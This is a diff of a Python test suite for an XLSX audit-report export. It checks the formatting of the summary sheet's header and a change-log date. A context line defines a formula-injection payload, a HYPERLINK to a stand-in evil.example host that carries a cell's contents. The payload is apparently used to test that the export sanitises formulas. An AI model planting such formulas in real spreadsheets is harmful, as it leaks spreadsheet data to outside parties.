@@ -137,6 +137,23 @@ def test_xlsx_has_a_summary_and_a_sheet_per_rule_ready_to_print(
     assert sheet["K2"].alignment.wrap_text and sheet["K2"].alignment.vertical == "top"
     assert sheet["F2"].alignment.vertical == "top" and sheet["F2"].fill.fill_type is None
     assert workbook["变更记录"]["G2"].value == "换届"
+    assert workbook["变更记录"]["A2"].value == datetime(2021, 7, 1, 9, 0)
+
+
+def test_the_summary_sheets_rule_table_has_the_frozen_bold_header_printed_on_each_page(
+    county_db: Engine, book: RuleBook
+) -> None:
+    listing = listing_of(county_db, book)
+    summary = load_workbook(io.BytesIO(audit_xlsx.to_xlsx(listing, "zh", SHANGHAI, NOW)))["汇总"]
+    header = next(row for row in summary.iter_rows() if row[1].value == "规则名称")
+    number = header[0].row
+    assert [cell.value for cell in header[:3]] == ["规则", "规则名称", "依据条款"]
+    assert all(cell.font.bold and cell.fill.fgColor.rgb == "00DDE4EE" for cell in header)
+    assert (
+        summary.freeze_panes == f"A{number + 1}"
+        and summary.print_title_rows == f"${number}:${number}"
+    )
+    assert summary.cell(number + 1, 1).value == listing.rules[0].id
 
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
